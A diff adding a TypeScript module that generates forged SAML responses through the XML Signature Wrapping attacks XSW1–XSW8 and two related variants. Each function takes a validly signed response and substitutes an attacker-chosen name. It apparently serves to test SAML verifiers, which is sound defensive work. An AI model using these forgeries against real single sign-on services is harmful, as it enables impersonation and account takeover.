@@ -1,0 +1,91 @@
+/**
+ * The known ways to wrap a signature: the signed element is moved to where a verifier finds it by its id, and a forged
+ * one stands where a reader looks for the assertion. Numbered as in "On Breaking SAML" (Somorovsky et al., 2012).
+ * Each takes the XML of a response whose assertion is signed (1 and 2: whose response is signed too) and the name to forge.
+ */
+export const SIGNATURE_WRAPPINGS: Record<string, (xml: string, forgedName: string) => string> = {
+  'XSW1: forged response around the signed one, in its signature'(xml, forgedName) {
+    const signature = responseSignature(xml)
+    const original = xml.replace(signature, '')
+    const forged = forge(xml, forgedName).replace(/ID="[^"]+"/, 'ID="_forged-response"')
+    return forged.replace(signature, signature.replace('</ds:Signature>', `${original}</ds:Signature>`))
+  },
+  'XSW2: forged response, the signed one detached before its signature'(xml, forgedName) {
+    const signature = responseSignature(xml)
+    const original = xml.replace(signature, '')
+    const forged = forge(xml, forgedName).replace(/ID="[^"]+"/, 'ID="_forged-response"')
+    return forged.replace(signature, original + signature)
+  },
+  'XSW3: forged assertion before the signed one': (xml, forgedName) =>
+    withAssertion(xml, (signed) => forgedAssertion(signed, forgedName) + signed),
+  'XSW3 reversed: forged assertion after the signed one': (xml, forgedName) =>
+    withAssertion(xml, (signed) => signed + forgedAssertion(signed, forgedName)),
+  'XSW4: signed assertion inside the forged one': (xml, forgedName) =>
+    withAssertion(xml, (signed) =>
+      forgedAssertion(signed, forgedName).replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
+    ),
+  'XSW5: signature in the forged assertion, the signed one after it': (xml, forgedName) =>
+    withAssertion(xml, (signed) => resign(signed, forgedName, assertionSignature(signed)) + unsigned(signed)),
+  'XSW6: signed assertion inside its signature, in the forged one': (xml, forgedName) =>
+    withAssertion(xml, (signed) => {
+      const signature = assertionSignature(signed).replace('</ds:Signature>', `${unsigned(signed)}</ds:Signature>`)
+      return resign(signed, forgedName, signature)
+    }),
+  'XSW7: forged assertion of the same id in an extension': (xml, forgedName) =>
+    withAssertion(
+      xml,
+      (signed) => `<samlp:Extensions>${forge(unsigned(signed), forgedName)}</samlp:Extensions>${signed}`,
+    ),
+  'XSW8: signed assertion in an object of the signature, in the forged one': (xml, forgedName) =>
+    withAssertion(xml, (signed) => {
+      const object = `<ds:Object>${unsigned(signed)}</ds:Object>`
+      const signature = assertionSignature(signed).replace('</ds:Signature>', `${object}</ds:Signature>`)
+      return resign(signed, forgedName, signature)
+    }),
+  'signed assertion in an extension, the forged one in its place': (xml, forgedName) =>
+    withAssertion(
+      xml,
+      (signed) => `<samlp:Extensions>${signed}</samlp:Extensions>${forgedAssertion(signed, forgedName)}`,
+    ),
+  'forged assertion of the same id in its place, the signed one in an extension': (xml, forgedName) =>
+    withAssertion(
+      xml,
+      (signed) => `<samlp:Extensions>${signed}</samlp:Extensions>${forge(unsigned(signed), forgedName)}`,
+    ),
+}
+
+/** The first signature of the response is its own, as it stands before the assertion. */
+function responseSignature(xml: string): string {
+  return match(xml, /<ds:Signature .*?<\/ds:Signature>/s)
+}
+
+function assertionSignature(assertion: string): string {
+  return match(assertion, /<ds:Signature .*<\/ds:Signature>/s)
+}
+
+function unsigned(assertion: string): string {
+  return assertion.replace(assertionSignature(assertion), '')
+}
+
+function withAssertion(xml: string, change: (assertion: string) => string): string {
+  const assertion = match(xml, /<saml:Assertion .*<\/saml:Assertion>/s)
+  return xml.replace(assertion, () => change(assertion))
+}
+
+function forge(xml: string, forgedName: string): string {
+  return xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${forgedName}`)
+}
+
+function forgedAssertion(signed: string, forgedName: string): string {
+  return forge(unsigned(signed), forgedName).replace(/ID="[^"]+"/, 'ID="_forged-assertion"')
+}
+
+function resign(signed: string, forgedName: string, signature: string): string {
+  return forgedAssertion(signed, forgedName).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`)
+}
+
+function match(text: string, pattern: RegExp): string {
+  const found = pattern.exec(text)?.[0]
+  if (!found) throw new Error(`nothing matches ${pattern}`)
+  return found
+}
